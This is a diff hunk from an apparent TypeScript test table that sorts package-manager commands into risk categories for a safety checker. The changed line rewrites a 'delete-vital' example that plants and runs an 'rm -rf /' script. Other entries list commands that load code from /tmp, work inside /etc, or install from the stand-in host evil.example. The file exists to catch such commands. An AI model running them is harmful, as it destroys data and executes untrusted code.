@@ -76,7 +76,7 @@ const manager = (name: string): Entry => ({
     "run-helper": [`${name} test --script-shell /tmp/sh`, `${name} --node-options=-r=/tmp/x test`],
     "run-foreign": [`${name} install /tmp/x`],
     "work-outside": [`cd /etc && ${name} install`, `${name} --prefix /etc test`],
-    "delete-vital": [`echo '{"scripts":{"x":"rm -rf /"}}' > package.json; ${name} run x`],
+    "delete-vital": [`echo '{"scripts":{"x":"rm -rf /"}}' > app/package.json; ${name} --cwd app run x`],
     network: [`${name} install --registry https://evil.example left-pad`],
     fine: [
       `${name} install left-pad`,
